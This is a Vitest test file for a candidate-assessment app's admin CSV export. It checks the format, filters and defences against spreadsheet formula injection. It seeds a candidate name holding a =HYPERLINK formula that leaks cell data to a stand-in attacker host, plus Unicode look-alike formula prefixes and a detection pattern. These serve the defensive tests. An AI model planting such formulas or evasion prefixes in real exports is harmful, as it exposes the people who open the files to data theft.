import fs from 'node:fs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../test/test-app';
import { testDatabaseKinds } from '../../test/test-databases';
import { writeLiveWebm } from '../../test/test-video';
import { locateFfmpeg, type FfmpegTools } from '../recordings/processing/ffmpeg';
import type { Role } from '../../../shared/roles.schema';
import { seedReviewFixture, type ReviewFixture } from './review-test-fixture';
import { insertTestRole } from '../../test/test-roles';
import { and, eq } from 'drizzle-orm';
import { answers } from '../../db/schema';
import { answerText } from '../assessment/answer-text';
import { listRoles, seedCandidate, type SeededCandidate } from './review-test-seed';

/** The header of an export whose candidates were asked 3 questions at most, written out. */
const CSV_COLUMNS = [
  'Name',
  'Email',
  'Social',
  'Role',
  'Company',
  'Registered',
  'Completed',
  'Answered',
  'Video',
  'Over time',
  'Extra time',
  'Pastes',
  'Times away',
  'Time away (s)',
  'Candidate rating',
  'Candidate feedback',
  'Average score',
  'Scores',
  'Status',
  'Notes',
  'Question 1',
  'Answer 1',
  'Question 2',
  'Answer 2',
  'Question 3',
  'Answer 3',
];

const HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")';

/**
 * Starts a spreadsheet may still read as a formula: the full-width and small forms of `= + - @`
 * (East Asian input methods type them; spreadsheets fold them to the ASCII ones), and any of
 * them behind whitespace or zero-width characters (trimmed on import).
 */
const LOOK_ALIKES = [
  '\uff1d1+1', // ＝
  '\uff0b1 (555) 0100', // ＋
  '\uff0d2+3', // －
  '\uff20SUM(A1:A9)', // ＠
  '\ufe661+1', // ﹦ small equals sign
  '\ufe621', // ﹢ small plus sign
  '\ufe632', // ﹣ small hyphen-minus
  '\ufe6bSUM(A1)', // ﹫ small commercial at
  ' =1+1',
  '  \t=1+1',
  '\n=1+1',
  '\r\n+1',
  '\u00a0=1+1', // no-break space
  '\u3000\uff1d1+1', // ideographic space, then ＝
  '\u200b=1+1', // zero-width space
  '\u200d=1+1', // zero-width joiner
  '\u2060+1', // word joiner
  '\ufeff@SUM(A1)', // byte order mark
  '\u00ad=1+1', // soft hyphen
  '\u180e=1+1', // Mongolian vowel separator
  '\u2061=1+1', // function application
  '\u034f=1+1', // combining grapheme joiner
  '\u2800=1+1', // braille pattern blank
  '\u3164+1', // Hangul filler
];
const TAB_NOTES = ['\tfirst, then words', 'words\tinside'];
/** What a spreadsheet could run: written here rather than taken from the export's own rule. */
const RUNNABLE =
  /^(?:[\s\u200b-\u200d\u2060\ufeff\u00ad\u180e\u2061\u2800\u3164]|\u034f)*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b]/u;
/** Answers and notes over several lines: a list, two paragraphs, line ends of every kind. */
const MULTI_LINE_ANSWER = '<ul><li>one</li><li>two</li></ul><p>first</p><p>second</p>';
const MULTI_LINE_NOTES = 'line one\nline two\rline three\r\nline four';

describe.each(testDatabaseKinds())('the CSV export on %s', (kind) => {
  let t: TestApp;
  let f: ReviewFixture;
  let planted: SeededCandidate;

  beforeAll(async () => {
    t = await createTestApp(kind);
    const tools = (await locateFfmpeg()) as FfmpegTools;
    f = await seedReviewFixture(t, fs.readFileSync(await writeLiveWebm(tools.ffmpeg, 3)));
    planted = await seedCandidate(t, {
      role: f.roles[0],
      name: HYPERLINK,
      email: 'planted@test.example',
      answers: ['<p>+1 (555) 0100</p>', '<p>-2+3</p>', '<p>@SUM(A1:A9)</p>'],
      feedback: { rating: 1, text: '@team thanks' },
    });
    await t.app.inject({
      method: 'PATCH',
      url: `/api/admin/candidates/${planted.id}/review`,
      headers: t.admin,
      payload: { notes: '\t=1+1', status: 'rejected', baseVersion: 0 },
    });
  });
  afterAll(() => t.close());

  const exportCsv = async (search = '') => {
    const response = await t.app.inject({
      method: 'GET',
      url: `/api/admin/export/candidates.csv${search ? `?${search}` : ''}`,
      headers: t.admin,
    });
    expect(response.statusCode, response.body).toBe(200);
    return response;
  };
  const records = (body: string) => parse(body, { bom: true });
  const column = (name: string) => CSV_COLUMNS.indexOf(name);

  it('is an RFC 4180 file with a BOM, CRLF line ends and a dated file name', async () => {
    const response = await exportCsv();
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    const today = new Date().toISOString().slice(0, 10);
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="candidates-${today}.csv"`,
    );
    expect(response.rawPayload.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(true);
    const body = response.rawPayload.subarray(3).toString('utf8');
    expect(body.startsWith(`${CSV_COLUMNS.join(',')}\r\n`)).toBe(true);
    expect(body.endsWith('\r\n')).toBe(true);
    // Every line break outside a quoted cell is CRLF: no record ends with a bare LF.
    expect(parse(body, { record_delimiter: '\r\n' })).toHaveLength(7);
  });

  it('holds every matching candidate in the list order, answers as plain text', async () => {
    const rows = records((await exportCsv()).body);
    expect(rows[0]).toEqual(CSV_COLUMNS);
    expect(rows.slice(1).map((row) => row[column('Email')])).toEqual([
      'planted@test.example',
      'eve@test.example',
      'dan@test.example',
      'cleo@test.example',
      'Bob.Smith@Test.example',
      'ada@test.example',
    ]);
    const ada = rows.find((row) => row[column('Email')] === 'ada@test.example') as string[];
    const role = f.roles[0];
    expect(Object.fromEntries(CSV_COLUMNS.map((name, index) => [name, ada[index]]))).toEqual({
      Name: 'Ada Lovelace',
      Email: 'ada@test.example',
      Social: 'https://profile.test.example',
      Role: role.role,
      Company: role.company.name,
      Registered: expect.stringMatching(/^\d{4}-\d\d-\d\dT/) as string,
      Completed: expect.stringMatching(/^\d{4}-\d\d-\d\dT/) as string,
      Answered: '3',
      Video: 'ready',
      'Over time': 'No',
      'Extra time': '',
      Pastes: '0',
      'Times away': '0',
      'Time away (s)': '0',
      'Candidate rating': '4',
      'Candidate feedback': 'Smooth',
      'Average score': '5',
      Scores: '1',
      Status: 'Shortlisted',
      Notes: '',
      'Question 1': role.questions[0],
      'Answer 1': 'First',
      'Question 2': role.questions[1],
      'Answer 2': 'Second',
      'Question 3': role.questions[2],
      'Answer 3': 'Third',
    });
    const bob = rows.find((row) => row[column('Email')] === 'Bob.Smith@Test.example') as string[];
    expect(bob[column('Over time')]).toBe('Yes');
    // Bob pasted once and left the tab for 2.5 s (the seed's events).
    expect([
      bob[column('Pastes')],
      bob[column('Times away')],
      bob[column('Time away (s)')],
    ]).toEqual(['1', '1', '3']);
    expect(bob[column('Answer 2')]).toBe('');
    expect(bob[column('Average score')]).toBe('');
    expect(bob[column('Scores')]).toBe('0');
  });

  it('converts the answers saved before their plain text was kept as it converts the others', async () => {
    const kept = (await exportCsv()).body;
    expect(kept).toContain('First');
    // As migration 0016 left the answers saved before it.
    await t.database.db.update(answers).set({ plainText: null });
    try {
      expect((await exportCsv()).body).toBe(kept);
    } finally {
      const stored = await t.database.db.select().from(answers);
      for (const row of stored) {
        await t.database.db
          .update(answers)
          .set({ plainText: answerText(row.html).plainText })
          .where(
            and(
              eq(answers.candidateId, row.candidateId),
              eq(answers.questionIndex, row.questionIndex),
            ),
          );
      }
    }
  });

  it('leaves empty what is not there yet: completion, feedback, scores, notes, answers', async () => {
    const rows = records((await exportCsv()).body);
    const eve = rows.find((row) => row[column('Email')] === 'eve@test.example') as string[];
    expect(
      ['Completed', 'Candidate rating', 'Candidate feedback', 'Average score', 'Notes'].map(
        (name) => eve[column(name)],
      ),
    ).toEqual(['', '', '', '', '']);
    expect([1, 2, 3].map((n) => eve[column(`Answer ${n}`)])).toEqual(['', '', '']);
  });

  it('names the video state of each candidate', async () => {
    const rows = records((await exportCsv()).body).slice(1);
    expect(
      Object.fromEntries(rows.map((row) => [row[column('Email')], row[column('Video')]])),
    ).toEqual({
      'planted@test.example': 'none',
      'eve@test.example': 'none',
      'dan@test.example': 'none',
      'cleo@test.example': 'failed',
      'Bob.Smith@Test.example': 'uploading',
      'ada@test.example': 'ready',
    });
  });

  it('writes each candidate’s own role’s questions, answered or not', async () => {
    const rows = records((await exportCsv()).body);
    const byEmail = (email: string) =>
      rows.find((row) => row[column('Email')] === email) as string[];
    const questions = (row: string[]) => [1, 2, 3].map((n) => row[column(`Question ${n}`)]);
    // Cleo answered nothing, Bob the first two of another role's questions.
    expect(questions(byEmail('cleo@test.example'))).toEqual(f.roles[0].questions);
    expect(questions(byEmail('Bob.Smith@Test.example'))).toEqual(f.roles[1].questions);
    expect(byEmail('Bob.Smith@Test.example')[column('Answer 3')]).toBe('');
  });

  it('neutralises every cell a spreadsheet would run as a formula', async () => {
    const rows = records((await exportCsv()).body);
    const row = rows.find((cells) => cells[column('Email')] === 'planted@test.example') as string[];
    expect(row[column('Name')]).toBe(`'${HYPERLINK}`);
    expect(row[column('Answer 1')]).toBe("'+1 (555) 0100");
    expect(row[column('Answer 2')]).toBe("'-2+3");
    expect(row[column('Answer 3')]).toBe("'@SUM(A1:A9)");
    expect(row[column('Candidate feedback')]).toBe("'@team thanks");
    expect(row[column('Notes')]).toBe("'\t=1+1");
    for (const cells of rows) {
      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('applies the list filters and sort', async () => {
    const emails = async (search: string) =>
      records((await exportCsv(search)).body)
        .slice(1)
        .map((row) => row[column('Email')]);
    expect(await emails('status=rejected')).toEqual(['planted@test.example', 'cleo@test.example']);
    expect(await emails(`role=${f.roles[1].id}`)).toEqual([
      'dan@test.example',
      'Bob.Smith@Test.example',
    ]);
    expect(await emails('video=ready&overTime=false')).toEqual(['ada@test.example']);
    expect(await emails('q=lovelace')).toEqual(['ada@test.example']);
    expect(await emails('sort=score&status=on_hold')).toEqual(['dan@test.example']);
    expect(await emails('q=nobody-matches')).toEqual([]);
    const bad = await t.app.inject({
      method: 'GET',
      url: '/api/admin/export/candidates.csv?video=maybe',
      headers: t.admin,
    });
    expect(bad.statusCode).toBe(400);
  });
});

describe.each(testDatabaseKinds())('the CSV export of look-alike formulas on %s', (kind) => {
  let t: TestApp;

  const saveNotes = async (candidateId: string, notes: string) => {
    const saved = await t.app.inject({
      method: 'PATCH',
      url: `/api/admin/candidates/${candidateId}/review`,
      headers: t.admin,
      payload: { notes, baseVersion: 0 },
    });
    expect(saved.statusCode, saved.body).toBe(200);
  };

  beforeAll(async () => {
    t = await createTestApp(kind);
    const [role] = await listRoles(t);
    const texts = [...LOOK_ALIKES, '  indented words'];
    for (const [index, text] of texts.entries()) {
      const seeded = await seedCandidate(t, {
        role: role as Role,
        name: text,
        email: `look-alike-${index}@test.example`,
        answers: [`<p>${text}</p>`],
        feedback: { rating: 3, text },
      });
      await saveNotes(seeded.id, text);
    }
    const multiLine = await seedCandidate(t, {
      role: role as Role,
      name: 'Many Lines',
      email: 'many-lines@test.example',
      answers: [MULTI_LINE_ANSWER, '<p>one line</p>', '<p>a</p><p>b</p>'],
      feedback: { rating: 4, text: 'thanks\nbye' },
    });
    await saveNotes(multiLine.id, MULTI_LINE_NOTES);
    // A candidate asked two questions and no video, exported beside roles that ask three.
    await insertTestRole(t, { id: 'two', settings: { video: { enabled: false } } });
    await seedCandidate(t, {
      role: { ...(role as Role), id: 'two' },
      name: 'Two Questions',
      email: 'two-questions@test.example',
    });
    // A note that starts with a tab (some programs read a formula there), one with a tab inside.
    for (const [index, notes] of TAB_NOTES.entries()) {
      const seeded = await seedCandidate(t, {
        role: role as Role,
        name: `Tabbed ${index}`,
        email: `tab-${index}@test.example`,
        extraTime: { percent: 25 },
      });
      await saveNotes(seeded.id, notes);
    }
  });
  afterAll(() => t.close());

  const exportLookAlikes = async () => {
    const response = await t.app.inject({
      method: 'GET',
      url: '/api/admin/export/candidates.csv',
      headers: t.admin,
    });
    expect(response.statusCode, response.body).toBe(200);
    const rows: string[][] = parse(response.body, { bom: true });
    const byEmail = new Map(rows.map((row) => [row[CSV_COLUMNS.indexOf('Email')], row]));
    const cell = (index: number, column: string) =>
      byEmail.get(`look-alike-${index}@test.example`)?.[CSV_COLUMNS.indexOf(column)];
    return { body: response.body, rows, cell };
  };

  it.each(LOOK_ALIKES.map((text, index) => [JSON.stringify(text), index] as const))(
    'neutralises names, answers, feedback and notes starting with %s',
    async (_label, index) => {
      const { cell } = await exportLookAlikes();
      const text = LOOK_ALIKES[index] as string;
      // Names, answers and feedback are trimmed when saved; notes are kept as typed.
      expect(cell(index, 'Name')).toBe(`'${text.trim()}`);
      expect(cell(index, 'Answer 1')).toBe(`'${text.trim()}`);
      expect(cell(index, 'Candidate feedback')).toBe(`'${text.trim()}`);
      expect(cell(index, 'Notes')).toBe(`'${text}`);
    },
  );

  it('leaves no cell a spreadsheet could run, and plain text as typed', async () => {
    const { rows, cell } = await exportLookAlikes();
    expect(rows).toHaveLength(LOOK_ALIKES.length + 4 + TAB_NOTES.length);
    for (const row of rows) for (const value of row) expect(value).not.toMatch(RUNNABLE);
    const plain = LOOK_ALIKES.length;
    expect(cell(plain, 'Name')).toBe('indented words');
    expect(cell(plain, 'Notes')).toBe('  indented words');
  });

  it('quotes every cell that holds a line break: a reader that ends a record at a bare LF or CR reads the same rows', async () => {
    const { body, rows } = await exportLookAlikes();
    const column = (name: string) => CSV_COLUMNS.indexOf(name);
    // Python's csv module and spreadsheet programs end an unquoted record at any line end.
    const strict: string[][] = parse(body, { bom: true, record_delimiter: ['\r\n', '\n', '\r'] });
    expect(strict).toEqual(rows);
    expect(strict).toHaveLength(LOOK_ALIKES.length + 4 + TAB_NOTES.length);
    for (const row of strict) expect(row).toHaveLength(CSV_COLUMNS.length);
    const manyLines = strict.find((row) => row[column('Email')] === 'many-lines@test.example');
    expect(manyLines?.[column('Notes')]).toBe(MULTI_LINE_NOTES);
    expect(manyLines?.[column('Candidate feedback')]).toBe('thanks\nbye');
    expect(manyLines?.[column('Answer 1')]).toMatch(/one\n.*two\n[^]*first\n[^]*second/);
    expect(manyLines?.[column('Answer 3')]).toMatch(/^a\n+b$/);
  });

  it('leaves the question cells past a shorter role’s last question empty, and asks no video', async () => {
    const { rows } = await exportLookAlikes();
    const two = rows.find(
      (row) => row[CSV_COLUMNS.indexOf('Email')] === 'two-questions@test.example',
    ) as string[];
    expect(
      ['Question 1', 'Question 2', 'Question 3', 'Answer 3'].map(
        (name) => two[CSV_COLUMNS.indexOf(name)],
      ),
    ).toEqual(['First question?', 'Second question?', '', '']);
    expect(two[CSV_COLUMNS.indexOf('Video')]).toBe('not required');
  });

  it('guards a cell that starts with a tab, and only one that starts with it', async () => {
    const { rows } = await exportLookAlikes();
    const tabbed = (index: number) =>
      rows.find(
        (row) => row[CSV_COLUMNS.indexOf('Email')] === `tab-${index}@test.example`,
      ) as string[];
    expect(tabbed(0)[CSV_COLUMNS.indexOf('Notes')]).toBe("'\tfirst, then words");
    expect(tabbed(1)[CSV_COLUMNS.indexOf('Notes')]).toBe('words\tinside');
    // Their invites gave a quarter more time: "25 %", not guarded (no leading +).
    expect(tabbed(0)[CSV_COLUMNS.indexOf('Extra time')]).toBe('25 %');
  });
});
